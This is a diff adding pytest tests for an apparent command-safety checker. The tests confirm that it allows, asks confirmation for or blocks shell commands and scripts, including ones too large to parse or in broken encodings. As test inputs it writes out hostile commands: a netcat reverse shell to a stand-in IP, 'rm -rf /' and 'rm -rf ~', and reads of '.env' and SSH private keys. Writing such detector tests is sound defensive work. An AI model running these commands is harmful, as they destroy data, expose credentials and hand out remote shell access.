@@ -157,3 +157,97 @@ def test_undecodable_bytes_still_get_a_decision(capsys: pytest.CaptureFixture[st
     decision = json.loads(out)
     assert any(f["capability"] == "analysis.incomplete" for f in decision["findings"])
     assert code in (0, 3, 4)
+
+
+# Exit statuses with the real analyzers and the built-in policy: 0 allow/notice, 3 confirm/review, 4 block.
+EXIT_STATUSES = [
+    ("ls -la", 0),
+    ("rm -rf ./build", 0),
+    ("cat .env", 3),
+    ("cat ~/.ssh/id_rsa", 3),
+    ("rm -rf /", 4),
+    ("nc -e /bin/sh 203.0.113.7 4444", 4),
+]
+
+
+@pytest.mark.parametrize(("command", "status"), EXIT_STATUSES)
+def test_the_exit_status_follows_the_action(
+    capsys: pytest.CaptureFixture[str], command: str, status: int
+) -> None:
+    code, out, _ = run(capsys, "check", "-c", command, "--lang", "bash", "--format", "json")
+    action = json.loads(out)["action"]
+    assert code == status, action
+    assert code == {"allow": 0, "notice": 0, "confirm": 3, "review": 3, "block": 4}[action]
+
+
+def test_cases_exit_with_the_strongest_action_judged(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    cases = tmp_path / "cases.jsonl"
+    records = [
+        {"id": "fine", "kind": "command", "language": "bash", "content": "ls", "mode": "execute"},
+        {"id": "wipe", "kind": "command", "language": "bash", "content": "rm -rf ~", "mode": "execute"},
+        {"id": "shown", "kind": "command", "language": "bash", "content": "rm -rf ~", "mode": "generate"},
+    ]
+    cases.write_text("\n".join(json.dumps(r) for r in records) + "\n")
+    code, out, _ = run(capsys, "check", "--cases", str(cases), "--format", "json")
+    actions = {d["id"]: d["action"] for d in map(json.loads, out.splitlines())}
+    assert actions == {"fine": "allow", "wipe": "block", "shown": "notice"}
+    assert code == 4
+
+
+def test_non_utf8_text_is_decided_on_what_it_says(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    script = tmp_path / "legacy.sh"
+    script.write_bytes("echo 'café'\nrm -rf /\n".encode("latin-1"))
+    code, out, err = run(capsys, "check", str(script), "--mode", "execute", "--format", "json")
+    decision = json.loads(out)
+    rules = {f["rule_id"] for f in decision["findings"]}
+    assert "engine.not-utf8" in rules and "bash.fs.recursive_delete" in rules
+    assert code == 4 and "Traceback" not in err
+
+
+def test_a_script_that_does_not_parse_is_still_read_line_by_line(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    script = tmp_path / "broken.sh"
+    script.write_text('if then fi (((\n$((( "\n rm -rf / \n')
+    code, out, err = run(capsys, "check", str(script), "--mode", "execute", "--format", "json")
+    findings = json.loads(out)["findings"]
+    assert any(f["rule_id"] == "bash.analysis.partial" for f in findings)
+    assert [f["lines"] for f in findings if f["rule_id"] == "bash.fs.recursive_delete"] == [[3]]
+    assert code == 4 and "Traceback" not in err
+
+
+def test_input_beyond_the_parse_limit_still_meets_the_pattern_tier(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    script = tmp_path / "huge.sh"
+    script.write_text("echo hello world\n" * 600_000 + "rm -rf /\n")  # 10 MB
+    code, out, err = run(capsys, "check", str(script), "--mode", "execute", "--format", "json")
+    findings = {f["rule_id"]: f for f in json.loads(out)["findings"]}
+    assert "engine.too-large" in findings and findings["any.fs.delete_root"]["lines"] == [600_001]
+    assert code == 4 and "Traceback" not in err
+
+
+def test_huge_harmless_input_is_decided_with_a_note_of_what_was_not_parsed(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    script = tmp_path / "huge.py"
+    script.write_text("print('hello')\n" * 700_000)
+    code, out, _ = run(capsys, "check", str(script), "--mode", "execute", "--format", "json")
+    decision = json.loads(out)
+    assert [f["rule_id"] for f in decision["findings"]] == ["engine.too-large"]
+    assert decision["action"] == "notice" and code == 0
+
+
+def test_random_binary_gets_a_decision_not_a_traceback(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    blob = tmp_path / "random.bin"
+    blob.write_bytes(bytes((n * 7919 + 13) % 256 for n in range(200_000)))
+    code, out, err = run(
+        capsys, "check", str(blob), "--lang", "bash", "--mode", "execute", "--format", "json"
+    )
+    decision = json.loads(out)
+    assert any(f["capability"] == "analysis.incomplete" for f in decision["findings"])
+    assert code in (0, 3, 4) and "Traceback" not in err
